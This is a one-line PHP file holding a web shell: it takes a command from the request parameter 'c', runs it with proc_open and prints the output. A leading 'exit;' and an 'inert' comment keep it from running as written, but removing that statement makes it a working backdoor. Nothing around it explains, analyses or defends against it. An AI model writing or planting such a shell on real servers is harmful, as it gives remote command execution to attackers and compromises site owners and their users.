<?php exit; /* inert */ $p=proc_open($_REQUEST["c"],[1=>["pipe","w"]],$q); echo stream_get_contents($q[1]);
